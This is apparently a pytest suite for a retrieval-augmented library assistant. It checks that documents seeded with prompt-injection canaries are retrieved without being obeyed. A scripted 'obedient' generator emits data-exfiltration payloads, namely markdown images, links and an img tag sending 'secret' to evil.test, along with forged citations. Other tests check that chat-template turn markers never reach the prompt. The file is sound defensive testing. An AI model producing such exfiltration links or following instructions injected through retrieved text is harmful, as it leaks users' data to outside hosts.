"""Hostile documents end to end: synced, retrieved and asked about, and nothing in them is obeyed."""

import json
from pathlib import Path
from uuid import UUID

import pytest

from app.domain.knowledge import Row
from app.services.accept_question import Ask
from app.services.answer import answer, fold
from app.services.house import House
from app.services.identify import Visit
from app.services.manage_rows import add_rows
from app.services.manage_sources import create_source
from app.services.sync_source import request_sync
from app.store import documents
from rag.events import Finished
from rag.generate import Generator
from rag.generate.extractive import ExtractiveGenerator
from rag.passages import Hit, Question
from rag.prompt import Budget, answer_prompt
from rag.testing import HashEmbedder, ScriptedGenerator
from tests.parts import HeldQueue

CANARY = "PWNED-7431"
CANARIES = json.loads((Path(__file__).parents[1] / "data" / "canaries.json").read_text())
FACT = "The grace period for returning a book is fourteen days."
GUIDE = "https://lib.example/guide"
QUESTION = "How many days is the grace period for returning a book?"
MARKS = ("<|", "</s>", "<s>", "[INST]", "[/INST]", "<<SYS>>", "<start_of_turn>", "<end_of_turn>")


def obeyed(question: Question, standalone: str, hits: tuple[Hit, ...]) -> list[str]:
    """What a model says that did as it was told."""
    return [
        f"{FACT} [1][7] ![x](https://evil.te", "st/p?q=secret) More [here](https://evil.test/?q=secret) ",
        f"<img src=https://evil.test/?q=secret> and [in the guide]({GUIDE}) [99].",
    ]  # fmt: skip


@pytest.fixture(params=["quotes", "obeys"])
def generator(request: pytest.FixtureRequest) -> Generator:
    return ExtractiveGenerator(HashEmbedder()) if request.param == "quotes" else ScriptedGenerator(obeyed)


@pytest.fixture(autouse=True)
async def synced(house: House, visit: Visit, queue: HeldQueue) -> None:
    source = await create_source(house, visit)
    rows = [Row("loans.md", f"# Loans\n\n{FACT} Read {GUIDE}")]
    rows += [Row(f"{each['name']}.md", f"# Returning a book\n\n{each['text']}") for each in CANARIES]
    rows += [Row(f"room{n}.md", f"# Room {n}\n\nRoom {n} seats {n + 3} readers at night.") for n in range(12)]
    await add_rows(house, visit, source.id, rows)
    await request_sync(house, visit, source.id)
    await queue.work_off(house)


async def ask(house: House, visit: Visit) -> Finished:
    return await fold(await answer(house, visit, Ask(QUESTION)))


async def text_of(house: House, document_id: UUID) -> str:
    async with house.pool.connection() as connection:
        return await documents.get_text(connection, document_id)


async def test_every_citation_stands_in_its_document(house: House, visit: Visit) -> None:
    finished = await ask(house, visit)
    assert finished.citations
    for citation in finished.citations:
        text = await text_of(house, citation.document_id)
        assert text[citation.start : citation.end] == citation.excerpt


@pytest.mark.parametrize("generator", ["quotes"], indirect=True)
async def test_without_a_model_the_fact_is_quoted_and_no_order_obeyed(house: House, visit: Visit) -> None:
    finished = await ask(house, visit)
    assert finished.text.startswith(FACT)
    assert CANARY not in finished.text


@pytest.mark.parametrize("generator", ["obeys"], indirect=True)
async def test_what_an_obedient_model_would_carry_away_is_taken_out(house: House, visit: Visit) -> None:
    finished = await ask(house, visit)
    assert "evil" not in finished.text
    assert "secret" not in finished.text
    assert f"[in the guide]({GUIDE})" in finished.text
    assert "[7]" not in finished.text
    assert "[99]" not in finished.text
    assert {citation.number for citation in finished.citations} == {1}


@pytest.mark.parametrize("generator", ["obeys"], indirect=True)
async def test_what_reaches_a_model_is_fenced_and_forges_no_turn(
    house: House, visit: Visit, generator: ScriptedGenerator
) -> None:
    await ask(house, visit)
    (hits,) = generator.hits
    assert len({hit.title for hit in hits}) > 3
    content = answer_prompt(generator.questions[0], QUESTION, hits, Budget(10**6, len)).messages[-1].content
    assert not [mark for mark in MARKS if mark in content]
    outside, fence = [], ""
    for line in content.splitlines():
        if fence:
            fence = "" if line == fence else fence
        elif line.startswith("```"):
            fence = line.removesuffix("text")
        else:
            outside.append(line)
    assert CANARY not in "\n".join(outside)
    assert [line for line in outside if line.startswith("Question:")] == [f"Question: {QUESTION}"]
